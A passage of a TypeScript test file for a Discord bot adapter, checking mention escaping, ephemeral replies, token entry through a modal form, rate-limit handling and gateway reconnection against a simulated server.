    expect(said(room.id)).toEqual(['ann asks: why? @\u200beveryone'])
    const elsewhere = sim.command(ann, other, 'status')
    await until(() => elsewhere.settled)
    expect(elsewhere.settled).toMatchObject({ kind: 'message', ephemeral: true })
    expect(gateway.commands).toHaveLength(2)
    gateway.broken = true
    const bad = sim.command(ann, thread, 'stop')
    await until(() => bad.shown)
    expect(bad.shown?.content).toContain('nothing was changed')
  })

  test('a link token is given in a form and never in chat', async () => {
    await started()
    await until(() => sim.commands.list('').length === COMMANDS.length)
    const opener = sim.command(ann, sim.dm(ann), 'link')
    expect((await opener.outcome).kind).toBe('modal')
    const form = sim.submitModal(opener, { token: ' ts_secret ' })
    await until(() => form.shown)
    expect(gateway.commands).toMatchObject([{ name: 'link', args: { token: 'ts_secret' }, to: at(sim.dm(ann)) }])
  })
})

test("with the real clock and Discord's limits on, a long answer comes without a single 429", async () => {
  sim.rateLimits.enabled = true
  const log = createLog('silent', createRedactor([]))
  const config: DiscordConfig = { guild: '', channels: [], bots: [], archive_minutes: 60, api_url: sim.apiUrl }
  const deps = { clock: systemClock, log, locks: createLocalLocks(), commands: [] }
  const adapter = createDiscordAdapter({ config, token: sim.token, deps })
  adapters.push(adapter)
  await adapter.start(gateway)
  const canvas = adapter.canvas(at(room), 'turn-x', posts)
  const lines = Array.from({ length: 700 }, (_, i) => `line ${i} of it`)
  for (let i = 1; i <= 20; i++) {
    canvas.draw(view([text(lines.slice(0, i * 35).join('\n'))], i === 20 ? 'done' : 'writing'))
    await new Promise((next) => setTimeout(next, 50))
  }
  await canvas.settle(never)
  expect(said(room.id).join('\n').split('\n')).toEqual(lines)
  expect(sim.requests.filter((r) => r.status === 429)).toEqual([])
})

test('a storm of invalid sessions ends in one connection that hears', async () => {
  const adapter = await started()
  sim.gateway.invalidateAt('resume', false)
  sim.gateway.closeAt('identify', 4009)
  sim.gateway.closeAt('connect', 4000)
  sim.gateway.close(4009)
  await until(() => sim.gateway.sessions.length === 2 && adapter.state().state === 'ready', 25_000)
  sim.say(ann, sim.dm(ann), 'still there?')
  await until(() => gateway.messages.length === 1)
  expect(sim.gateway.sessions.filter((s) => s.connected)).toHaveLength(1)
})
